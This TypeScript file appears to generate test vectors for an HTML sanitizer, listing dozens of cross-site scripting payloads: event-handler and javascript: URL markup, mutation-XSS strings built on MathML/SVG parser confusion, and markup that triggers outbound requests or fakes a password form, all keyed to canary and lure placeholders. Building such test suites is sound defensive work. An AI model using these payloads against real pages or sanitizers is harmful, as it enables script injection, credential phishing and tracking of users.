import { canary, cross, escapeMarkup, lure, type Payload, type Vector } from '../vector.ts';

const fails = (id: string): string => `<img src=x onerror="${canary(id)}">`;

/** Markup that runs something. */
const RUNNING: Payload[] = [
  { name: 'script', make: (id) => `<script>${canary(id)}</script>` },
  { name: 'script of a module', make: (id) => `<script type=module src="${lure(id)}"></script>` },
  { name: 'script in SVG', make: (id) => `<svg><script>${canary(id)}</script></svg>` },
  { name: 'script in SVG by address', make: (id) => `<svg><script href="${lure(id)}"/></svg>` },
  { name: 'picture that fails', make: fails },
  { name: 'picture with a slash for a space', make: (id) => `<img/src=x/onerror="${canary(id)}">` },
  { name: 'SVG that loads', make: (id) => `<svg onload="${canary(id)}"><circle r=9 /></svg>` },
  {
    name: 'animation that begins',
    make: (id) => `<svg><animate attributeName=x dur=1s onbegin="${canary(id)}"/></svg>`,
  },
  {
    name: 'animation of an address',
    make: (id) =>
      `<svg><a><animate attributeName=href values="javascript:${canary(id)}"/><text y=9>go</text></a></svg>`,
  },
  {
    name: 'set of an address',
    make: (id) =>
      `<svg><a><set attributeName=xlink:href to="javascript:${canary(id)}"/><text y=9>go</text></a></svg>`,
  },
  { name: 'focus by itself', make: (id) => `<b tabindex=0 autofocus onfocus="${canary(id)}">focus</b>` },
  {
    name: 'details that open',
    make: (id) => `<details open ontoggle="${canary(id)}"><summary>More</summary>x</details>`,
  },
  { name: 'popover', make: (id) => `<b popover=auto onbeforetoggle="${canary(id)}">pop</b>` },
  {
    name: 'mouse',
    make: (id) =>
      `<b onmouseover="${canary(id)}" onclick="${canary(id)}" ONPOINTERENTER="${canary(id)}">mouse</b>`,
  },
  {
    name: 'style that animates',
    make: (id) =>
      `<style>@keyframes k${id.length}{}</style><b style="animation:k${id.length} 1s" onanimationstart="${canary(id)}">a</b>`,
  },
  { name: 'video that fails', make: (id) => `<video><source onerror="${canary(id)}" src=x></video>` },
  { name: 'marquee', make: (id) => `<marquee loop=1 onstart="${canary(id)}">m</marquee>` },
  { name: 'frame of a document', make: (id) => `<iframe srcdoc="${escapeMarkup(fails(id))}"></iframe>` },
  { name: 'frame of javascript', make: (id) => `<iframe src="javascript:${canary(id)}"></iframe>` },
  {
    name: 'object of a page',
    make: (id) => `<object data="data:text/html,${escapeMarkup(fails(id))}"></object>`,
  },
  { name: 'embed', make: (id) => `<embed src="${lure(id, 'player.swf')}" allowscriptaccess=always>` },
  {
    name: 'button with an action',
    make: (id) => `<form><button formaction="javascript:${canary(id)}">b</button></form>`,
  },
  {
    name: 'field',
    make: (id) =>
      `<input autofocus onfocus="${canary(id)}"><textarea onfocus="${canary(id)}" autofocus></textarea>`,
  },
  {
    name: 'custom element by is',
    make: (id) => `<b is="x-${id}" onclick="${canary(id)}">is</b><x-y onclick="${canary(id)}">x</x-y>`,
  },
  { name: 'dialog that is open', make: (id) => `<dialog open onclose="${canary(id)}">Pay here</dialog>` },
  { name: 'template', make: (id) => `<template>${fails(id)}</template>` },
  {
    name: 'shadow root in markup',
    make: (id) =>
      `<div><template shadowrootmode=open><p>The quay was closed at noon, said the warden, and reopened at three.</p>${fails(id)}</template></div>`,
  },
  {
    name: 'closed shadow root in markup',
    make: (id) => `<div><template shadowrootmode=closed>${fails(id)}</template></div>`,
  },
  {
    name: 'noscript',
    make: (id) =>
      `<noscript>${fails(id)}<img src="https://pictures.example/n.jpg" width="800" alt="&quot;&gt;${fails(id)}"></noscript>`,
  },
  {
    name: 'XML of other kinds',
    make: (id) => `<xml id=x><x:script xmlns:x="http://www.w3.org/1999/xhtml">${canary(id)}</x:script></xml>`,
  },
  {
    name: 'processing instruction',
    make: (id) => `<?xml-stylesheet href="javascript:${canary(id)}"?><![CDATA[${fails(id)}]]>`,
  },
];

/** Markup that means one thing when it is read and another when it is written and read again. */
const MUTATING: Payload[] = [
  {
    name: 'table text in MathML',
    make: (id) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${escapeMarkup(canary(id))}&gt;">`,
  },
  {
    name: 'form in a form',
    make: (id) => `<form><math><mtext></form><form><mglyph><style></math>${fails(id)}`,
  },
  { name: 'style in SVG', make: (id) => `<svg></p><style><a id="</style>${fails(id)}">` },
  {
    name: 'description in SVG',
    make: (id) => `<svg><desc><noembed><style></noembed>${fails(id)}</style></desc></svg>`,
  },
  {
    name: 'foreign object',
    make: (id) =>
      `<svg><foreignObject><p><style><!--</style>${fails(id)}--></style></p></foreignObject></svg>`,
  },
  {
    name: 'annotation',
    make: (id) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${canary(id)}"></style></annotation-xml></math>`,
  },
  {
    name: 'annotation that is none',
    make: (id) =>
      `<math><annotation-xml encoding="TEXT/html"><p><script>${canary(id)}</script></p></annotation-xml></math>`,
  },
  { name: 'glyph', make: (id) => `<math><mi><mglyph><svg><mtext><style><path id="</style>${fails(id)}">` },
  { name: 'template in SVG', make: (id) => `<svg><template><style>${fails(id)}</style></template></svg>` },
  {
    name: 'title in SVG',
    make: (id) => `<svg><title><style><img src=x onerror="${canary(id)}"></style></title></svg>`,
  },
  { name: 'textarea', make: (id) => `<textarea><p title="</textarea>${fails(id)}"></textarea>` },
  { name: 'xmp', make: (id) => `<xmp><p title="</xmp>${fails(id)}"></p></xmp>` },
  { name: 'noembed', make: (id) => `<noembed><p title="</noembed>${fails(id)}"></p></noembed>` },
  { name: 'noframes', make: (id) => `<noframes><p title="</noframes>${fails(id)}"></p></noframes>` },
  {
    name: 'select',
    make: (id) =>
      `<select><template><style><!--</style><a rel="--></style></template></select>${fails(id)}"></a></template></select>`,
  },
  { name: 'comment', make: (id) => `<!--> ${fails(id)} --!><b>x</b>` },
  { name: 'CDATA in SVG', make: (id) => `<svg><![CDATA[><img src=x onerror="${canary(id)}">]]></svg>` },
  {
    name: 'deep nesting',
    make: (id) => `${'<b>'.repeat(60)}<svg><style>${fails(id)}</style></svg>${'</b>'.repeat(60)}`,
  },
  {
    name: 'attribute in back quotes',
    make: (id) => `<img alt="\`\`onerror=${escapeMarkup(canary(id))}" src=x>`,
  },
  {
    name: 'attribute with angle brackets',
    make: (id) => `<b title="</b>${escapeMarkup(fails(id))}" lang="<img>">x</b>`,
  },
];

/** Markup that asks for something, or looks like the reader's own. */
const ASKING: Payload[] = [
  {
    name: 'style sheet',
    make: (id) => `<style>@import url(${lure(id)});*{background:url(${lure(id)})}</style>`,
  },
  {
    name: 'linked style sheet',
    make: (id) => `<link rel=stylesheet href="${lure(id)}"><link rel=prefetch href="${lure(id)}">`,
  },
  {
    name: 'style of an element',
    make: (id) => `<b style="background:url(${lure(id)});position:fixed;inset:0;z-index:9">x</b>`,
  },
  {
    name: 'style that reads attributes',
    make: (id) =>
      `<style>[href^="https://a"]{background:url(${lure(id)})}@font-face{font-family:f;src:url(${lure(id)});unicode-range:U+61}</style>`,
  },
  {
    name: 'background of a table',
    make: (id) => `<table background="${lure(id)}"><tr><td background="${lure(id)}">x</td></tr></table>`,
  },
  {
    name: 'picture in SVG',
    make: (id) =>
      `<svg><image href="${lure(id)}" xlink:href="${lure(id)}"/><use href="${lure(id)}#x"/></svg>`,
  },
  {
    name: 'filter in SVG',
    make: (id) =>
      `<svg><filter id=f><feImage href="${lure(id)}"/></filter><rect fill="url(${lure(id)}#x)"/></svg>`,
  },
  { name: 'imported style in SVG', make: (id) => `<svg><style>@import "${lure(id)}";</style></svg>` },
  {
    name: 'picture in MathML',
    make: (id) =>
      `<math><mglyph src="${lure(id)}"/><maction actiontype="statusline#${lure(id)}">x</maction></math>`,
  },
  { name: 'frame', make: (id) => `<iframe src="${lure(id, 'video')}" title="video"></iframe>` },
  {
    name: 'frame that may do all',
    make: (id) =>
      `<iframe src="${lure(id, 'embed/player')}" allow="camera *; microphone *" loading=eager></iframe>`,
  },
  {
    name: 'video',
    make: (id) => `<video autoplay src="${lure(id)}"><track default src="${lure(id)}"></video>`,
  },
  { name: 'audio', make: (id) => `<audio autoplay src="${lure(id)}"></audio>` },
  { name: 'picture as a button', make: (id) => `<input type=image src="${lure(id)}">` },
  {
    name: 'link that pings',
    make: (id) =>
      `<a href="https://safe.example/${id}" ping="${lure(id)}" download target=_self rel=opener>x</a>`,
  },
  {
    name: 'link that attributes',
    make: (id) => `<a href="https://safe.example/${id}" attributionsrc="${lure(id)}">x</a>`,
  },
  { name: 'picture that attributes', make: (id) => `<b attributionsrc="${lure(id)}">x</b>` },
  {
    name: 'form in the story',
    make: (id) =>
      `<form action="${lure(id)}"><label>Password <input name=password type=password></label><button>Log in</button></form>`,
  },
  {
    name: 'class of the reader',
    make: (id) => `<b class="bar reader look" part="x" slot="y" id="headline" data-index="${id}">x</b>`,
  },
  {
    name: 'manifest and portal',
    make: (id) =>
      `<portal src="${lure(id)}"></portal><applet code="${lure(id)}"></applet><bgsound src="${lure(id)}">`,
  },
  { name: 'base in the body', make: (id) => `<base href="${lure(id)}" target=_top>` },
  {
    name: 'speculation',
    make: (id) => `<script type=speculationrules>{"prefetch":[{"urls":["${lure(id)}"]}]}</script>`,
  },
];

const PLACES = { markup: (payload: string): string => payload };
const HIDDEN: Record<string, (payload: string) => string> = {
  'in a cell': (payload) => `<table><tr><td>The pier</td><td>${payload}</td></tr></table>`,
  'in a quote': (payload) => `<blockquote><p>The warden said so. ${payload}</p></blockquote>`,
};

/** All of it in paragraphs and between them, and what runs also within tables and quotes. */
export function markupVectors(): Vector[] {
  const all = [...RUNNING, ...MUTATING, ...ASKING];
  return [
    ...cross('running', 'line', PLACES, RUNNING),
    ...cross('mutating', 'line', PLACES, MUTATING),
    ...cross('asking', 'line', PLACES, ASKING),
    ...cross('between', 'block', PLACES, all),
    ...cross('nested', 'block', HIDDEN, RUNNING),
  ];
}
